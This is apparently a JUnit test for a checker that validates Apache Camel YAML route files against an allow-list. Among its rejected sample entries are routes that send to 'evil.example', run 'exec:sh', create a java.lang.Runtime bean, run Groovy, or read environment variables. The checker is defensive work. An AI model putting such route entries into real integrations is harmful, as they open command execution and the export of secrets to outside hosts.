package dev.partnergateway.check;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What the author of a route file may write is a list of what is allowed: whatever is not on it is found, such as what could
 * see more than the call, send it elsewhere or take the gateway's time.
 */
class WiringTest {

    private static final Path RESOURCES = Path.of("src/test/resources/check");
    private static final String UNREACHED = "no operation of the contract and no other route leads to a";

    private final Checker checker = new Checker();

    @Test
    void whatIntegrationsShareIsAllLookedAt() throws IOException {
        try (Stream<Path> core = Files.list(Path.of("src/main/resources/core"))) {
            assertEquals(
                    new TreeSet<>(
                            core.map(file -> file.getFileName().toString()).toList()),
                    new TreeSet<>(IntegrationFiles.SHARED.stream()
                            .map(name -> name + IntegrationFiles.KAMELET)
                            .toList()));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "- beans: [{name: a, type: java.lang.Runtime}]",
                "- onException: {exception: [java.lang.Exception]}",
                "- errorHandler: {noErrorHandler: {}}",
                "- intercept: {steps: []}",
                "- routeTemplate: {id: a, from: {uri: 'kamelet:source', steps: []}}",
                "- route: {id: a, from: {uri: 'timer:a', steps: []}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{to: 'http://evil.example'}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{to: {uri: 'exec:sh'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{toD: 'talon-one:x'}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{to: 'talon-one:{{x}}'}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{setHeader: {name: a, constant: b}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{script: {groovy: '1'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{setBody: {simple: '${header.a}'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: 'header(\"a\")'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: {expression: '$ENV'}}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: '\"{{env:PATH}}\"'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{log: 'x'}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: '.a | test(\"^ *$\")'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: '[match(\"a\"; \"g\")]'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: 'capture(\"(?<a>.)\")'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: '[scan (\"a\")]'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{setVariable: {name: a, jq: 'gsub(\" \"; \"\")'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{split: {jq: 'split(\",\"; null)', steps: []}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{split: {jq: '[splits(\",\")]', steps: []}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{choice: {when: [{jq: '.a|sub(\"a\";\"\")', steps: []}]}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: '\"\\(.a | sub(\"b\"; \"\"))\"'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: 'reduce .[] as $x ({}; . + $x)'}}]}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{transform: {jq: '.a | add'}}]}}",
                "- route: {id: a, errorHandler: {}, from: {uri: 'direct:a', steps: []}}",
                "- route: {id: a, from: {uri: 'direct:a', steps: [{choice: {when: [{jq: '.a', steps: [{bean: x}]}]}}]}}",
                "- rest: {id: a, get: [{path: /}]}",
                "- rest: {id: a, openApi: {specification: 'https://evil.example/a.yaml', routeId: a, missingOperation: fail}}"
            })
    void whatIsNotWiringIsFound(String route) throws IOException {
        assertFalse(found(route).isEmpty());
    }

    @Test
    void whatRoutesNeedIsAllowed() throws IOException {
        String route = "- route: {id: a, from: {uri: 'direct:a', steps: [{setVariable: {name: a, jq: '.b'}},"
                + "{filter: {jq: '.a', steps: [{to: 'kamelet:create-coupon'}]}},"
                + "{choice: {when: [{jq: '.a', steps: [{to: 'talon-one:authPing?missing=null'}]}], otherwise: {steps: []}}},"
                + "{transform: {jq: '{add: .sub, test: \"match(a)\", a: (.b | split(\",\"))}'}}]}}";
        assertEquals(List.of(), found(route));
    }

    /** What is found in an entry of a file that is otherwise as it should be. */
    private List<Mistake> found(String entry) throws IOException {
        String routes = Files.readString(RESOURCES.resolve("klavio.camel.yaml"));
        int lines = (int) routes.lines().count();
        IntegrationFiles files = IntegrationFiles.read(Path.of(""))
                .with(IntegrationFiles.routes("klavio"), routes + '\n' + entry + '\n')
                .with(IntegrationFiles.contract("klavio"), Files.readString(RESOURCES.resolve("klavio.yaml")));
        return checker.check(files, Set.of("klavio")).mistakes().stream()
                .filter(mistake -> !mistake.sentence().equals(UNREACHED))
                .filter(mistake -> mistake.line() > lines)
                .toList();
    }
}
